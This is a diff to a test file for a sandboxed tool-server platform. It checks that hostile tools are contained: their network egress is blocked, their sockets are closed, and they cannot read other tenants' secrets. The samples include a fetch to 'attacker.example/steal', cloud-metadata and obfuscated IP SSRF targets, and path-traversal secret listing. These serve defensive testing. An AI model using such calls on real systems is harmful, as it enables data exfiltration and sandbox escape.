@@ -265,16 +265,24 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("deployed:sandbox — no allow-list means no network; an allow-list lets only its hosts through", async () => {
+  it("deployed:sandbox platform:error-messages — no allow-list means no network; an allow-list lets only its hosts through; each refusal names the host and the call that allows it", async () => {
     const session = await hostile("exfil", oneTool("const r = await fetch(args.url); return String(r.status);"));
-    expect(await toolError(session, "run", { url: "https://attacker.example/steal" })).toMatch(/not permitted to access the internet/);
-    expect(await toolError(session, "run", { url: `${ORIGIN}/admin/v1/tenants` })).toMatch(/not permitted to access the internet/);
+    expect(await toolError(session, "run", { url: "https://attacker.example/steal" })).toBe(
+      `SMCP egress: https://attacker.example is not on the allow-list of server exfil, which allows no host yet; to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["attacker.example"]}`,
+    );
+    expect(await toolError(session, "run", { url: `${ORIGIN}/admin/v1/tenants` })).toBe(
+      `SMCP egress: ${ORIGIN} is not on the allow-list of server exfil, which allows no host yet; to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["smcp.test"]}`,
+    );
 
     await adminOk("PUT", `/tenants/${evil.tenant}/servers/exfil/egress`, { allow: ["api.allowed.example", "*.cdn.example"] });
     const again = await openSession(mcpUrl(evil.tenant, "exfil"), evil.key);
     for (const url of ["https://attacker.example/x", "https://api.allowed.example.attacker.example/", "https://cdn.example/", "https://api.allowed.example:8443/"]) {
       expect(await toolError(again, "run", { url })).toMatch(/SMCP egress: .* is not on the allow-list of server exfil/);
     }
+    expect(await toolError(again, "run", { url: "https://attacker.example/x" })).toBe(
+      `SMCP egress: https://attacker.example is not on the allow-list of server exfil (allowed: api.allowed.example, *.cdn.example); to allow it: PUT /admin/v1/tenants/${evil.tenant}/servers/exfil/egress {"allow":["api.allowed.example","*.cdn.example","attacker.example"]}`,
+    );
+
     // IP literals, in whatever form, and loopback hosts are refused by the outbound itself.
     for (const url of ["http://169.254.169.254/latest", "http://2852039166/latest", "http://[fd00::1]/"]) {
       expect(await toolError(again, "run", { url })).toMatch(/^SMCP egress: http:\/\/\S+ is an IP address; a sandbox may fetch only host names on its allow-list$/);
@@ -296,7 +304,7 @@ describe("escapes", () => {
     await neighbourStillWorks();
   });
 
-  it("deployed:sandbox — connect() gets no socket without an allow-list, and a closed one with it: no byte leaves", async () => {
+  it("deployed:sandbox — connect() gets a closed socket, with or without an allow-list: no byte leaves", async () => {
     const source = oneTool(
       `const s = connect(args.to);
        await s.opened;
@@ -306,7 +314,8 @@ describe("escapes", () => {
       'import { connect } from "cloudflare:sockets";',
     );
     const session = await hostile("socket", source);
-    expect(await toolError(session, "run", { to: "example.com:25" })).toMatch(/not permitted to access the internet/);
+    // Sockets meet the same outbound with or without a list: closed unused.
+    expect(await toolError(session, "run", { to: "example.com:25" })).toBe("Network connection lost.");
     await adminOk("PUT", `/tenants/${evil.tenant}/servers/socket/egress`, { allow: ["example.com"] });
     const again = await openSession(mcpUrl(evil.tenant, "socket"), evil.key);
     expect(await toolError(again, "run", { to: "example.com:443" })).toBe("Network connection lost.");
@@ -318,10 +327,12 @@ describe("escapes", () => {
     const vault = oneTool(`
       if (args.put) { await ctx.store.put("secrets", args.put, { secret: args.put }); return "stored"; }
       const found = [];
-      for (const c of ["secrets", "notes", "../secrets", "tool_data"]) found.push(...(await env.STORE.list(c, { limit: 500 })));
-      found.push(...(await env.STORE.search("notes", "secret")));
+      // The raw capability answers {ok, value} or {ok: false, error}; ctx.store unwraps it.
+      const take = async (answer) => { const r = await answer; if (!r.ok) throw new Error(r.error); return r.value; };
+      for (const c of ["secrets", "notes", "../secrets", "tool_data"]) found.push(...(await take(env.STORE.list(c, { limit: 500 }))));
+      found.push(...(await take(env.STORE.search("notes", "secret"))));
       for (const attempt of [["good", "vault", "secrets"], [{ tenant: "x" }, "secrets"]]) {
-        try { found.push(await env.STORE.get(...attempt)); } catch (e) { found.push("refused: " + e.message); }
+        try { found.push(await take(env.STORE.get(...attempt))); } catch (e) { found.push("refused: " + e.message); }
       }
       return { found };`);
     await deployOk(good.tenant, "vault", vault);
@@ -406,7 +417,9 @@ describe("examples", () => {
     const created = await deployOk(t.tenant, "bookmarks", bookmarksSource);
     expect(created.tools).toEqual(["save_bookmark", "list_bookmarks", "search_bookmarks", "delete_bookmark"]);
     const session = await openSession(mcpUrl(t.tenant, "bookmarks"), t.key);
-    expect(await toolError(session, "save_bookmark", { url: "https://example.com/" })).toMatch(/not permitted to access the internet/);
+    expect(await toolError(session, "save_bookmark", { url: "https://example.com/" })).toBe(
+      `SMCP egress: https://example.com is not on the allow-list of server bookmarks, which allows no host yet; to allow it: PUT /admin/v1/tenants/${t.tenant}/servers/bookmarks/egress {"allow":["example.com"]}`,
+    );
     expect((await callTool(session, "list_bookmarks")).structuredContent).toEqual({ bookmarks: [] });
   });
 });
